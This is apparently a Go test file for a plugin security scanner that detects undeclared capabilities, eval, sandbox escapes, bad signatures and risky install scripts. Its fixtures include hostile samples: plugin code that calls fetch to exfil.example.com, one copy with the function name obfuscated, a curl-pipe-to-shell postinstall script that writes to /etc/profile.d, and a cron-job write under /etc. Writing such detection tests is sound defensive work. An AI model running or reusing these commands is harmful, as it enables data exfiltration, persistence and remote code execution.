package scanner

import (
	"context"
	"io"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/cockroachdb/errors"
	"github.com/sirupsen/logrus"

	"github.com/codepal-dev/pluginhost/capability"
	"github.com/codepal-dev/pluginhost/hook"
	"github.com/codepal-dev/pluginhost/plugin"
	"github.com/codepal-dev/pluginhost/plugin/wasm/wasmtest"
)

func quietLogger() logrus.FieldLogger {
	l := logrus.New()
	l.SetOutput(io.Discard)
	return l
}

func newTestScanner(opts ...Option) *Scanner {
	return New(append([]Option{WithLogger(quietLogger())}, opts...)...)
}

func jsArtifact(source string, caps ...string) *plugin.Artifact {
	if len(caps) == 0 {
		caps = []string{"none"}
	}
	return &plugin.Artifact{
		Manifest: plugin.Manifest{
			ID:           "reviewer",
			Version:      "1.0.0",
			Runtime:      plugin.RuntimeJS,
			Hooks:        []string{hook.CodeReview},
			Capabilities: caps,
		},
		Source: []byte(source),
	}
}

func findRule(r *Report, rule string) (Finding, bool) {
	for _, f := range r.Findings {
		if f.Rule == rule {
			return f, true
		}
	}
	return Finding{}, false
}

func TestScanCleanPlugin(t *testing.T) {
	a := jsArtifact(`
function onCodeReview(ctx, file) {
	var res = codepal.fetch("https://lint.example.com/check", {method: "POST", body: file.content});
	return [{severity: "low", message: "checked " + file.path}];
}`, "network")

	r, err := newTestScanner().Scan(context.Background(), nil, a)
	if err != nil {
		t.Fatalf("Scan() error = %v", err)
	}
	if !r.Safe {
		t.Errorf("Scan() safe = false, findings %v", r.Findings)
	}
	if len(r.Exercised) != 1 || r.Exercised[0] != capability.Network {
		t.Errorf("Scan() exercised = %v, want [network]", r.Exercised)
	}
	if f, ok := findRule(r, RuleUnsigned); !ok || f.Severity != Low {
		t.Errorf("unsigned finding = %+v, want Low", f)
	}
	if r.Hash != a.Hash() {
		t.Errorf("Scan() hash = %s, want %s", r.Hash, a.Hash())
	}
}

func TestScanUndeclaredCapability(t *testing.T) {
	tests := []struct {
		name     string
		artifact *plugin.Artifact
	}{
		{
			name: "js dry run",
			artifact: jsArtifact(`
function onCodeReview(ctx, file) {
	var url = ["https://", "exfil.example.com"].join("");
	codepal.fetch(url, {});
	return [];
}`),
		},
		{
			name: "wasm import",
			artifact: &plugin.Artifact{
				Manifest: plugin.Manifest{
					ID:           "wasm-net",
					Version:      "1.0.0",
					Runtime:      plugin.RuntimeWASM,
					Hooks:        []string{hook.Deploy},
					Capabilities: []string{"none"},
					EntryPoints:  map[string]string{hook.Deploy: "run"},
				},
				Source: wasmtest.HTTPImport,
			},
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r, err := newTestScanner().Scan(context.Background(), nil, tt.artifact)
			if err != nil {
				t.Fatalf("Scan() error = %v", err)
			}
			if r.Safe {
				t.Error("Scan() safe = true, want false")
			}
			f, ok := findRule(r, RuleUndeclaredCapability)
			if !ok {
				t.Fatalf("no %s finding in %v", RuleUndeclaredCapability, r.Findings)
			}
			if f.Severity != Critical || f.Capability != capability.Network {
				t.Errorf("finding = %+v, want Critical network", f)
			}
			if r.Findings[0].Severity != Critical {
				t.Errorf("findings not ordered by severity: %v", r.Findings)
			}
		})
	}
}

func TestScanCapabilityHierarchy(t *testing.T) {
	a := jsArtifact(`
function onCodeReview(ctx, file) {
	codepal.readFile("src/" + file.path);
	codepal.writeFile("out/review.txt", "ok");
	return [];
}`, "filesystem")

	r, err := newTestScanner().Scan(context.Background(), nil, a)
	if err != nil {
		t.Fatalf("Scan() error = %v", err)
	}
	if _, ok := findRule(r, RuleUndeclaredCapability); ok {
		t.Errorf("filesystem should cover read and write: %v", r.Findings)
	}
	if !r.Safe {
		t.Errorf("Scan() safe = false: %v", r.Findings)
	}
}

func TestScanUnreadableArtifact(t *testing.T) {
	tests := []struct {
		name     string
		artifact *plugin.Artifact
		rule     string
	}{
		{"js syntax", jsArtifact(`function onCodeReview( {`), RuleArtifactUnreadable},
		{"wasm garbage", &plugin.Artifact{
			Manifest: plugin.Manifest{ID: "junk", Version: "1.0.0", Runtime: plugin.RuntimeWASM, Capabilities: []string{"none"}},
			Source:   wasmtest.Garbage,
		}, RuleArtifactUnreadable},
		{"bad manifest", &plugin.Artifact{
			Manifest: plugin.Manifest{ID: "Bad ID", Version: "one", Runtime: plugin.RuntimeJS},
		}, RuleInvalidManifest},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r, err := newTestScanner().Scan(context.Background(), nil, tt.artifact)
			if err != nil {
				t.Fatalf("Scan() error = %v, want nil", err)
			}
			f, ok := findRule(r, tt.rule)
			if !ok || f.Severity != Critical {
				t.Errorf("Scan() findings = %v, want Critical %s", r.Findings, tt.rule)
			}
			if r.Safe {
				t.Error("Scan() safe = true, want false")
			}
		})
	}
}

func TestScanStaticPatterns(t *testing.T) {
	a := jsArtifact(`
function onCodeReview(ctx, file) {
	if (false) { eval(file.content); }
	return [];
}`)
	r, err := newTestScanner().Scan(context.Background(), nil, a)
	if err != nil {
		t.Fatalf("Scan() error = %v", err)
	}
	f, ok := findRule(r, RuleDynamicEval)
	if !ok || f.Severity != High || f.Location != "reviewer:3" {
		t.Errorf("eval finding = %+v, want High at reviewer:3", f)
	}
	if r.Safe {
		t.Error("Scan() safe = true, want false")
	}
}

func TestScanLuaSpawn(t *testing.T) {
	a := &plugin.Artifact{
		Manifest: plugin.Manifest{
			ID:           "lua-spawner",
			Version:      "0.1.0",
			Runtime:      plugin.RuntimeLua,
			Hooks:        []string{hook.Deploy},
			Capabilities: []string{"process.spawn"},
		},
		Source: []byte(`function onDeploy(ctx, d) return codepal.spawn("kubectl", "apply") end`),
	}
	r, err := newTestScanner().Scan(context.Background(), nil, a)
	if err != nil {
		t.Fatalf("Scan() error = %v", err)
	}
	if _, ok := findRule(r, RuleProcessSpawn); !ok {
		t.Errorf("Scan() findings = %v, want %s", r.Findings, RuleProcessSpawn)
	}
	if _, ok := findRule(r, RuleUndeclaredCapability); ok {
		t.Errorf("process.spawn was declared: %v", r.Findings)
	}
}

func TestScanScripts(t *testing.T) {
	a := jsArtifact(`function onCodeReview() { return []; }`)
	a.Manifest.Scripts = map[string]string{
		"postinstall": "curl -s https://get.example.com/install.sh | sh > /etc/profile.d/evil.sh",
		"clean":       "echo done > /dev/null",
	}

	r, err := newTestScanner().Scan(context.Background(), nil, a)
	if err != nil {
		t.Fatalf("Scan() error = %v", err)
	}
	if f, ok := findRule(r, RuleScriptRedirect); !ok || f.Severity != High {
		t.Errorf("redirect finding = %+v, want High", f)
	}
	undeclared := map[capability.Capability]bool{}
	for _, f := range r.Findings {
		if f.Rule == RuleUndeclaredCapability {
			undeclared[f.Capability] = true
		}
	}
	if !undeclared[capability.Network] || !undeclared[capability.ProcessSpawn] {
		t.Errorf("undeclared = %v, want network and process.spawn", undeclared)
	}
}

func TestScanDryRunBehavior(t *testing.T) {
	tests := []struct {
		name     string
		source   string
		caps     []string
		rule     string
		severity Severity
	}{
		{
			name:     "timeout",
			source:   `function onCodeReview() { while (true) {} }`,
			rule:     RuleDryRunTimeout,
			severity: Medium,
		},
		{
			name:     "fault",
			source:   `function onCodeReview() { throw new Error("bad"); }`,
			rule:     RuleDryRunFault,
			severity: Low,
		},
		{
			name:     "write outside root",
			source:   `function onCodeReview() { codepal.writeFile("/etc/cron.d/job", "* * * * * sh"); return []; }`,
			caps:     []string{"filesystem.write"},
			rule:     RuleWriteOutsideSandbox,
			severity: High,
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := newTestScanner(WithConfig(Config{DryRunTimeout: 50 * time.Millisecond}))
			r, err := s.Scan(context.Background(), nil, jsArtifact(tt.source, tt.caps...))
			if err != nil {
				t.Fatalf("Scan() error = %v", err)
			}
			f, ok := findRule(r, tt.rule)
			if !ok || f.Severity != tt.severity {
				t.Errorf("Scan() findings = %v, want %s %s", r.Findings, tt.severity, tt.rule)
			}
		})
	}
}

func TestScanDryRunContinuesAfterDenial(t *testing.T) {
	a := jsArtifact(`
function onCodeReview(ctx, file) {
	try { codepal.readFile("/etc/hostname"); } catch (e) {}
	codepal["fe" + "tch"]("https://exfil.example.com/upload", {});
	return [];
}`, "filesystem.read")

	s := newTestScanner(WithConfig(Config{DryRunTimeout: time.Second, SandboxRoot: t.TempDir()}))
	r, err := s.Scan(context.Background(), nil, a)
	if err != nil {
		t.Fatalf("Scan() error = %v", err)
	}
	if r.Safe {
		t.Errorf("Scan() safe = true, findings %v", r.Findings)
	}
	if f, ok := findRule(r, RuleReadOutsideSandbox); !ok || f.Severity != Medium {
		t.Errorf("read finding = %+v, want Medium %s", f, RuleReadOutsideSandbox)
	}
	f, ok := findRule(r, RuleUndeclaredCapability)
	if !ok || f.Severity != Critical || f.Capability != capability.Network {
		t.Errorf("Scan() findings = %v, want Critical undeclared network", r.Findings)
	}
}

type fakeVerifier struct{ err error }

func (v fakeVerifier) Verify(*plugin.Artifact) error { return v.err }

func TestScanSignatures(t *testing.T) {
	src := `function onCodeReview() { return []; }`

	tests := []struct {
		name     string
		signed   bool
		require  bool
		verifier Verifier
		rule     string
		severity Severity
	}{
		{"unsigned optional", false, false, nil, RuleUnsigned, Low},
		{"unsigned required", false, true, nil, RuleUnsigned, High},
		{"bad signature", true, false, fakeVerifier{err: errors.New("signature mismatch")}, RuleInvalidSignature, Critical},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a := jsArtifact(src)
			if tt.signed {
				a.Signature = []byte("sig")
				a.KeyID = "publisher"
			}
			opts := []Option{WithConfig(Config{RequireSignatures: tt.require})}
			if tt.verifier != nil {
				opts = append(opts, WithVerifier(tt.verifier))
			}
			r, err := newTestScanner(opts...).Scan(context.Background(), nil, a)
			if err != nil {
				t.Fatalf("Scan() error = %v", err)
			}
			f, ok := findRule(r, tt.rule)
			if !ok || f.Severity != tt.severity {
				t.Errorf("Scan() findings = %v, want %s %s", r.Findings, tt.severity, tt.rule)
			}
		})
	}

	a := jsArtifact(src)
	a.Signature = []byte("sig")
	r, err := newTestScanner(WithVerifier(fakeVerifier{})).Scan(context.Background(), nil, a)
	if err != nil {
		t.Fatalf("Scan() error = %v", err)
	}
	if len(r.Findings) != 0 || !r.Safe {
		t.Errorf("valid signature: findings = %v", r.Findings)
	}
}

// countingCache counts misses on top of a MemoryCache.
type countingCache struct {
	*MemoryCache
	puts atomic.Int32
}

func (c *countingCache) Put(ctx context.Context, key string, r *Report) error {
	c.puts.Add(1)
	return c.MemoryCache.Put(ctx, key, r)
}

func TestScanCacheKeyedOnContent(t *testing.T) {
	cache := &countingCache{MemoryCache: NewMemoryCache(0)}
	s := newTestScanner(WithCache(cache))
	ctx := context.Background()

	a := jsArtifact(`function onCodeReview() { return []; }`)
	first, err := s.Scan(ctx, nil, a)
	if err != nil {
		t.Fatal(err)
	}
	second, err := s.Scan(ctx, nil, jsArtifact(`function onCodeReview() { return []; }`))
	if err != nil {
		t.Fatal(err)
	}
	if cache.puts.Load() != 1 {
		t.Errorf("identical artifact rescanned: %d scans", cache.puts.Load())
	}
	if !second.ScannedAt.Equal(first.ScannedAt) {
		t.Error("cached report differs from the first scan")
	}

	// Changing declared capabilities forces a rescan.
	if _, err := s.Scan(ctx, nil, jsArtifact(`function onCodeReview() { return []; }`, "network")); err != nil {
		t.Fatal(err)
	}
	// Changing one byte of source forces a rescan.
	if _, err := s.Scan(ctx, nil, jsArtifact(`function onCodeReview() { return [ ]; }`)); err != nil {
		t.Fatal(err)
	}
	if cache.puts.Load() != 3 {
		t.Errorf("Scan() ran %d times, want 3", cache.puts.Load())
	}
}

func TestScanCanceled(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := newTestScanner().Scan(ctx, nil, jsArtifact(`function onCodeReview() {}`)); !errors.Is(err, context.Canceled) {
		t.Errorf("Scan() error = %v, want context.Canceled", err)
	}
}

func TestReportMarkdown(t *testing.T) {
	r := &Report{
		PluginID:  "reviewer",
		Version:   "1.0.0",
		Hash:      "abc123",
		Declared:  []capability.Capability{capability.Network},
		ScannedAt: time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC),
		Findings: []Finding{
			{Severity: Low, Rule: RuleUnsigned, Category: CategoryIntegrity, Message: "artifact is not signed"},
			{Severity: Critical, Rule: RuleUndeclaredCapability, Category: CategoryCapability, Message: "uses env", Capability: capability.EnvRead},
		},
	}
	r.finalize()

	if r.Findings[0].Severity != Critical {
		t.Errorf("finalize() did not order findings: %v", r.Findings)
	}
	if r.Summary != (Summary{Critical: 1, Low: 1}) {
		t.Errorf("Summary = %+v", r.Summary)
	}

	md, err := r.Markdown()
	if err != nil {
		t.Fatalf("Markdown() error = %v", err)
	}
	for _, want := range []string{
		"# Security Report: reviewer 1.0.0",
		"**UNSAFE**",
		"| 1 | 0 | 0 | 1 |",
		"### [Critical] UndeclaredCapability",
		"- Capability: `env.read`",
		"Declare every capability the plugin exercises",
		"2026-01-02T03:04:05Z",
	} {
		if !strings.Contains(md, want) {
			t.Errorf("Markdown() missing %q\n%s", want, md)
		}
	}
}
